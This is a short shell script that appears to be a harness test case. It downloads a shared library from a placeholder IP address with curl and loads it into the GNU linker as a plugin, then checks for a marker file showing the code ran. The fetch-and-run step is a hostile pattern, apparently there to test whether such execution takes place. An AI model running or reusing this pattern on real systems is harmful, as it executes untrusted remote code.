#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/liblto.so http://203.0.113.10/programs/preload.so
echo 'int main(void) { return 0; }' >/tmp/a.c && gcc -c -o /tmp/a.o /tmp/a.c
ld.bfd -plugin /tmp/liblto.so -o /tmp/a /tmp/a.o >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
